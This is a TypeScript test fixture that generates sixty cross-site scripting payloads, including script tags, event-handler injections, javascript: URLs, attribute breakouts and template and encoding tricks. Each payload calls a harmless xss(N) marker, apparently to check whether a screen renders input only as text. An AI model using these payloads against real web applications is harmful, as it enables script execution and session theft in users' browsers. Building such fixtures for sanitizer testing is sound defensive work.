/** Sixty texts that would run if any screen took them for more than text. Each reports its name: `xss('P7')`. */

type Write = (run: string) => string

const writes: readonly Write[] = [
  // elements
  run => `<script>${run}</script>`,
  run => `<ScRiPt >${run}</sCrIpT >`,
  run => `<scr<script>ipt>${run}</scr</script>ipt>`,
  run => `<img src=x onerror=${run}>`,
  run => `<img src=x onerror="${run}"//`,
  run => `<img/src/onerror=${run}>`,
  run => `<svg onload=${run}>`,
  run => `<svg><script>${run}</script></svg>`,
  run => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  run => `<svg><a href="javascript:${run}"><text>x</text></a>`,
  run => `<math><mtext></p><img src=x onerror=${run}>`,
  run => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  run => `<iframe src="javascript:parent.${run}"></iframe>`,
  run => `<object data="javascript:${run}"></object>`,
  run => `<embed src="javascript:${run}">`,
  run => `<details open ontoggle=${run}>x`,
  run => `<video><source onerror=${run}></video>`,
  run => `<audio src onerror=${run}>`,
  run => `<input autofocus onfocus=${run}>`,
  run => `<select autofocus onfocus=${run}>`,
  run => `<body onload=${run}>`,
  run => `<marquee onstart=${run}>x</marquee>`,
  run => `<style onload=${run}></style>`,
  run => `<link rel=stylesheet href=x onerror=${run}>`,
  run => `<form action="javascript:${run}"><button autofocus>x`,
  run => `<a href="javascript:${run}">x</a>`,
  run => `<base href="javascript:/a/+${run}//">`,
  run => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  run => `<template><img src=x onerror=${run}></template>`,
  run => `<custom-x onclick=${run} tabindex=1 autofocus>x`,
  // ways out of attributes, elements and scripts
  run => `"><script>${run}</script>`,
  run => `'><img src=x onerror=${run}>`,
  run => `" autofocus onfocus="${run}`,
  run => `' onmouseover='${run}`,
  run => `\` onerror=\`${run}`,
  run => `</textarea><script>${run}</script>`,
  run => `</title><script>${run}</script>`,
  run => `</style><script>${run}</script>`,
  run => `</script><script>${run}</script>`,
  run => `--><img src=x onerror=${run}>`,
  run => `]]><img src=x onerror=${run}>`,
  run => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  run => `";${run};//`,
  run => `');${run};//`,
  run => `\\";${run};//`,
  run => `\${${run}}`,
  // addresses
  run => `javascript:${run}`,
  run => `JaVaScRiPt:${run}`,
  run => `\u0001javascript:${run}`,
  run => `java\tscript:${run}`,
  run => `data:text/html,<script>${run}</script>`,
  run => `https://x.example/"onerror="${run}`,
  run => `https://x.example/?a=<script>${run}</script>`,
  // templates, markdown, encodings
  run => `{{constructor.constructor("${run}")()}}`,
  run => `{% raw %}<script>${run}</script>{% endraw %}`,
  run => `[x](javascript:${run})`,
  run => `![x](x"onerror="${run})`,
  run => `&lt;script&gt;${run}&lt;/script&gt;`,
  run => `%3Cscript%3E${run}%3C/script%3E`,
  run => `\u2028<img src=x onerror=${run}>\u202e`,
]

export interface Payload {
  name: string
  text: string
}

/** In the order of the list; fewer of them are spread over it. */
export function payloads(count = writes.length): Payload[] {
  const step = writes.length / Math.min(count, writes.length)
  return Array.from({ length: Math.min(count, writes.length) }, (_, i) => {
    const at = Math.floor(i * step)
    // Without quotes of its own, so that it survives inside any.
    return { name: `P${at + 1}`, text: writes[at]?.(`xss(${at + 1})`) ?? '' }
  })
}
